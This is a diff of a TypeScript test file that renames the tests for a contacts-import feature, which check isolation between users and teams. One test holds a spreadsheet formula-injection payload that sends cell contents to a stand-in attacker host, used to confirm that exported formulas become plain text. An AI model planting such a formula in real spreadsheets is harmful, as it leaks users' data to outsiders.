@@ -32,7 +32,7 @@ const codeOf = async (call: PromiseLike<{ error: { code?: string } | null }>) =>
 const rowOf = async (who: Person, company: string) =>
   (await succeed(who.client.from('contacts').select().eq('company', company)))[0];
 
-it('an import of somebody else is neither added to, read, finished nor undone, by a team mate neither', async () => {
+it("another user's import can't be extended, read, finished or undone, even by a teammate", async () => {
   const company = randomUUID();
   const id = randomUUID();
   await succeed(begin(victim, id));
@@ -50,7 +50,7 @@ it('an import of somebody else is neither added to, read, finished nor undone, b
   expect(await succeed(thief.client.rpc('my_imports', { p_kind: 'contacts' }))).toEqual([]);
 });
 
-it('ids, owners, tenants, versions and stamps in a file are nobody’s to say', async () => {
+it('IDs, owners, tenants, versions and timestamps in a file are ignored', async () => {
   for (const column of [
     'id',
     'owner_id',
@@ -84,7 +84,7 @@ it('ids, owners, tenants, versions and stamps in a file are nobody’s to say', 
   expect(await rowOf(victim, company)).toBeUndefined();
 });
 
-it('a row with the e-mail address of a foreign client neither finds nor changes that client', async () => {
+it("a row with another team's client email can't find or change that client", async () => {
   const company = randomUUID();
   const email = `ada@${company}.example`;
   await succeed(
@@ -99,7 +99,7 @@ it('a row with the e-mail address of a foreign client neither finds nor changes 
   expect(await rowOf(victim, company)).toMatchObject({ name: 'Ada', version: 1 });
 });
 
-it('what leaves the team no longer undoes what it brought there', async () => {
+it("records that left the team can't be undone by its import", async () => {
   const company = randomUUID();
   const id = randomUUID();
   await succeed(begin(mate, id));
@@ -110,7 +110,7 @@ it('what leaves the team no longer undoes what it brought there', async () => {
   expect(await rowOf(victim, company)).toMatchObject({ name: 'Ada', deleted_at: null });
 });
 
-it('a formula that came in as a cell goes out as words', async () => {
+it('an imported formula cell is exported as text', async () => {
   const company = randomUUID();
   const id = randomUUID();
   const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
@@ -122,7 +122,7 @@ it('a formula that came in as a cell goes out as words', async () => {
   expect(csvCell(row?.name ?? '')).toMatch(/^"'=/);
 });
 
-it('no table of imports is reached from outside', async () => {
+it("import tables can't be accessed from outside", async () => {
   for (const table of ['record_imports', 'record_import_rows', 'record_import_results']) {
     const answer = await thief.client.from(table as 'contacts').select();
     expect(answer.error?.code, table).toMatch(/^(?:42P01|PGRST205|42501)$/);
